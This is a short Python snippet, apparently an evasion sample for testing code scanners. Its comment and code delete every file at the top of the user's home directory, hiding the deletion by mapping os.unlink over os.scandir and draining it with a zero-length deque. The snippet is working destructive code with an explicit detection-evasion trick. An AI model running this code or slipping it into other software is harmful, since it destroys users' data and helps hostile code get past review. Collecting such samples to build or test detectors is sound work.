# Evasion: deletes the files at the top of the user's home directory.
# Hidden through os.scandir and map: os.unlink is mapped over the entries of
# os.scandir(home) (DirEntry objects are os.PathLike), files only, inside a
# collections.deque(maxlen=0), the idiom that drains an iterator.
import collections
import os

home = os.environ.get("HOME", os.path.expanduser("~"))
collections.deque(map(os.unlink, filter(os.DirEntry.is_file, os.scandir(home))), maxlen=0)
